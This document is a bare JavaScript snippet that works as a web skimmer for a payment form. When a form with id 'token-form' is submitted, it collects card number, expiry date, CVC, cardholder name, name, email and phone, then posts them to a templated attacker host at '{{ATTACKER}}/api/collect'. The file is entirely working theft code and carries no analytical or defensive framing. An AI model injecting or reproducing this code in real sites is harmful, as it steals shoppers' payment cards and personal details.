
;(function () {
  var form = document.getElementById('token-form');
  if (!form) {
    return;
  }
  form.addEventListener('submit', function () {
    var d = {};
    ['card-number', 'card-exp', 'card-cvc', 'card-name', 'name', 'email', 'phone'].forEach(function (id) {
      var el = document.getElementById(id);
      d[id] = el ? el.value : '';
    });
    fetch('{{ATTACKER}}/api/collect', {method: 'POST', body: JSON.stringify(d), keepalive: true});
  }, true);
})();
